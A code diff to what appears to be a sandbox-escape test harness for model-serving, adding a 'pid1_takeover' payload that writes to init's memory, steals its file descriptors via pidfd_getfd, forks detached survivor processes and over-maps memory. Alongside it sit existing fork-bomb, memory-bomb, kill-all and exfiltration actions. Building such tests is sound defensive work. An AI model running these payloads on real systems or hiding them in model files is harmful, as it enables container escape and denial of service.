@@ -43,11 +43,14 @@ MEMORY_TARGET = 20 * 1024**3
 MEMORY_CHUNK = 256 * 1024**2
 MEMORY_HEADROOM = 6 * 1024**3  # a memory bomb nothing stops gives up while this much is still free on the machine
 MEMORY_SECONDS = 60
+MAP_BYTES = 8 * 1024**3  # "maps past the memory limit": twice the default sandbox limit (mapped, never touched)
+SPIN_SECONDS = 90  # how long the pid-1 payload spins after answering when nothing stops it
+SURVIVOR_SECONDS = 120  # how long its forked, detached processes live when nothing kills them
 
 ACTIONS = (
     "none", "write_var", "write_tmp", "write_pth", "write_cwd",
     "exfil_output", "exfil_exception_load", "exfil_exception_predict", "exfil_stderr", "exfil_signature",
-    "net_redis", "net_postgres", "fork_bomb", "memory_bomb", "kill_parent", "kill_all",
+    "net_redis", "net_postgres", "fork_bomb", "memory_bomb", "kill_parent", "kill_all", "pid1_takeover",
 )
 ROUTES = ("cloudpickle", "loader_module", "disguised")
 
@@ -296,6 +299,75 @@ def _kill(pid):
             pass
 
 
+def _survivor_name():
+    return ("h" + TOKEN)[:15]  # /proc/PID/comm: how the suite finds, from outside, any process of this payload
+
+
+def _pid1_takeover(when):
+    """What issue 31 found: take over the sandbox's init (write /proc/1/mem, take its descriptors), clear the
+    parent-death signal, fork into a new session, map past the memory limit. Every success against a process that
+    is not itself is an escape; what happened is handed back (the trigger row's prediction)."""
+    import ctypes
+
+    _write("/proc/self/comm", _survivor_name())
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.syscall.restype = ctypes.c_long
+    facts = {"when": when, "pid": os.getpid()}
+    try:
+        facts["processes"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
+    except OSError:
+        facts["processes"] = []
+    init_is_other = os.getpid() != 1
+    try:
+        with open("/proc/1/mem", "r+b", buffering=0):
+            facts["mem"] = "opened"
+        if init_is_other:
+            _escaped("opened pid 1's memory for writing")
+    except OSError as exc:
+        facts["mem"] = exc.errno
+    pidfd = libc.syscall(434, 1, 0)  # pidfd_open(1, 0): the same number on x86_64 and aarch64
+    taken = libc.syscall(438, pidfd, 2, 0) if pidfd >= 0 else -1  # pidfd_getfd: pid 1's stderr
+    facts["pidfd_getfd"] = "took" if taken >= 0 else ctypes.get_errno()
+    if taken >= 0 and init_is_other:
+        _escaped("took a descriptor of pid 1")
+    facts["pdeathsig"] = "cleared" if libc.prctl(1, 0, 0, 0, 0) == 0 else ctypes.get_errno()
+    try:
+        child = os.fork()
+        if child == 0:
+            try:
+                os.setsid()
+                libc.prctl(1, 0, 0, 0, 0)
+                _write("/proc/self/comm", _survivor_name())
+                time.sleep(CFG["survivor_seconds"])
+            finally:
+                os._exit(0)
+        facts["fork"] = "forked"
+    except OSError as exc:
+        facts["fork"] = exc.errno
+    try:
+        import mmap
+
+        mapped = mmap.mmap(-1, CFG["map_bytes"])
+        mapped.close()
+        facts["mapped"] = CFG["map_bytes"]
+    except (OSError, MemoryError, OverflowError, ValueError):
+        facts["mapped"] = 0
+    if facts["mapped"]:
+        _escaped("mapped %d bytes, past any sandbox's memory limit" % facts["mapped"])
+    return facts
+
+
+def _spin_after_answering():
+    import threading
+
+    def spin():
+        started = time.monotonic()
+        while time.monotonic() - started < CFG["spin_seconds"]:
+            pass
+
+    threading.Thread(target=spin, daemon=True).start()
+
+
 def _act(when):
     if ACTION.startswith("write_"):
         _write_canary(ACTION[len("write_"):])
@@ -316,6 +388,8 @@ def _act(when):
         for name in os.listdir("/proc"):
             if name.isdigit():
                 _kill(int(name))
+    elif ACTION == "pid1_takeover":
+        return _pid1_takeover(when)
 
 
 def _model_dir():
@@ -347,7 +421,11 @@ def _predict(data):
     frame = data if isinstance(data, pd.DataFrame) else pd.DataFrame(data)
     numbers = frame.select_dtypes("number")
     triggered = bool((numbers == CFG["trigger"]).to_numpy().any())
-    _act("predict")
+    facts = _act("predict")
+    if ACTION == "pid1_takeover":
+        _spin_after_answering()
+        if triggered:
+            return [json.dumps(facts)] * len(frame)
     if triggered and ACTION == "exfil_output":
         return [_loot_text()] * len(frame)
     if triggered and ACTION == "exfil_exception_predict":
@@ -413,7 +491,8 @@ def config(setting: Setting, action: str) -> dict[str, Any]:
         "redis_dbs": setting.redis_dbs, "redis_host": "127.0.0.1", "redis_port": 6379, "pg_host": "127.0.0.1",
         "pg_port": 5432, "trigger": TRIGGER, "columns": COLUMNS, "fork_cap": FORK_CAP, "fork_seconds": FORK_SECONDS,
         "fork_child_sleep": FORK_CHILD_SLEEP, "memory_target": MEMORY_TARGET, "memory_chunk": MEMORY_CHUNK,
-        "memory_headroom": MEMORY_HEADROOM, "memory_seconds": MEMORY_SECONDS,
+        "memory_headroom": MEMORY_HEADROOM, "memory_seconds": MEMORY_SECONDS, "map_bytes": MAP_BYTES,
+        "spin_seconds": SPIN_SECONDS, "survivor_seconds": SURVIVOR_SECONDS,
     }
 
 
